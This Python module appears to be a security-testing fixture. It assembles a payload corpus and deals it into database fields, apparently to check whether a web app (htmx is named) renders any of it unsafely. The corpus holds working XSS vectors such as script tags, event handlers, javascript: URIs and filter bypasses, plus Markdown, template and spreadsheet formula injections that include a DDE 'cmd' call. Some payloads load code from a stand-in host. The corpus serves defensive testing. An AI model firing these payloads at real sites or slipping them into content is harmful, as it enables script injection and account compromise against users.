"""Texts that want to run: every way out of where text stands, times everything that could run there."""

CANARY = "hyxss"
CALL = f"{CANARY}(1)"
ELSEWHERE = "//hyxss.invalid/x"

WAYS_OUT = (
    "", '"', "'", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", '\\"',
)  # fmt: skip
"""How one gets out of an attribute, an element, a comment or a string of JSON."""

RUNNING = (
    f"<script>{CALL}</script>",
    f"<ScRiPt/x>{CALL}</sCrIpT>",
    f"<script src={ELSEWHERE}></script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src/onerror={CALL}//",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x>",
    f"<svg><a xlink:href=javascript:{CALL}>x</a>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<iframe src=javascript:{CALL}>",
    f"<object data={ELSEWHERE}>",
    f"<embed src={ELSEWHERE}>",
    f"<base href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}'</style>",
    f"<form action={ELSEWHERE}><button>x",
    f"<details open ontoggle={CALL}>",
    f"<div hx-get={ELSEWHERE} hx-trigger=load>",
    f"<div hx-on:load={CALL}>",
    f" onfocus={CALL} autofocus x=",
    f" onmouseover={CALL} style=position:fixed;inset:0 x=",
    f" hx-vals=js:{{x:{CALL}}} x=",
)
"""What a browser, or htmx in it, would run or fetch."""

MARKED = (
    f"[x](javascript:{CALL})",
    f"[x](JaVaScRiPt:{CALL})",
    f"[x](java\tscript:{CALL})",
    f"[x](javascript&colon;{CALL})",
    f"[x](&#106;avascript:{CALL})",
    f"[x](%6aavascript:{CALL})",
    f"[x](data:text/html,<script>{CALL}</script>)",
    f"[x](vbscript:{CALL})",
    f"![x]({ELSEWHERE})",
    f'![x](x"onerror="{CALL})',
    f'[x](/a "onmouseover={CALL} ")',
    f"[x]: javascript:{CALL}\n\n[x]",
    f"<javascript:{CALL}>",
    f'<https://hyxss.invalid/"onmouseover={CALL}>',
    f"`<img src=x onerror={CALL}>`",
    f'```{CANARY}" onload={CALL}\n</code></pre><script>{CALL}</script>\n```',
    f"| a |\n|---|\n| <img src=x onerror={CALL}> |",
    f'[[{CANARY}" onmouseover={CALL}]]',
    f"{{{{ {CALL} }}}}",
    f"{{% include '{CANARY}' %}}",
    f"${{{CALL}}}",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"＜script＞{CALL}＜/script＞",
    f"<scr\u00adipt>{CALL}</script>",
    f"\u202e<script>{CALL}</script>\u202c",
    f"<!--><script>{CALL}</script>",
    f"<![CDATA[><script>{CALL}</script>]]>",
    "<a href=//hyxss.invalid>x</a>",
    f"<<script>script>{CALL}<</script>/script>",
)
"""What other readers than a browser make of a text: Markdown, templates, decoders."""

FORMULAS = (
    f'=HYPERLINK("https:{ELSEWHERE}","x")', f"=cmd|'/C {CANARY}'!A0", f"+{CALL}", f"-{CALL}",
    f"@SUM({CANARY})", f"\t={CALL}", f"\r={CALL}", f"\n={CALL}", f" ={CALL}", f"\u3000={CALL}",
    f"＝{CALL}", f"＋{CALL}", f"－{CALL}", f"＠{CALL}", f'="{CALL}"', f"=1+1;{CALL}",
    f"\u00a0={CALL}", f"\ufeff={CALL}", f"\u200b={CALL}", f"\x0b={CALL}",
)  # fmt: skip
"""What a spreadsheet would work out (CWE-1236)."""

ALL = FORMULAS + tuple(f"{out}{text}" for text in RUNNING for out in WAYS_OUT) + MARKED


class Hand:
    """Deals the texts out, field by field: each field gets the next ones that fit."""

    def __init__(self, texts: tuple[str, ...] = ALL) -> None:
        self._texts = texts
        self._next: dict[tuple[str, str], int] = {}
        self._started = 0
        self.dealt: set[str] = set()

    def write(self, table: str, column: str, most: int) -> str:
        """The next text for this field, short enough; several where there is room."""
        words, room = "", most
        for _again in range(4 if most > 1000 else 1):
            text = self._fitting(table, column, room)
            words += text + "\n\n" * (most > 1000)
            room -= len(text) + 2
        return words

    def _fitting(self, table: str, column: str, room: int) -> str:
        if (table, column) not in self._next:
            self._started += 37
            self._next[table, column] = self._started
        for _text in self._texts:
            at = self._next[table, column]
            self._next[table, column] = at + 1
            text = self._texts[at % len(self._texts)]
            if len(text) <= room:
                self.dealt.add(text)
                return text
        return ""
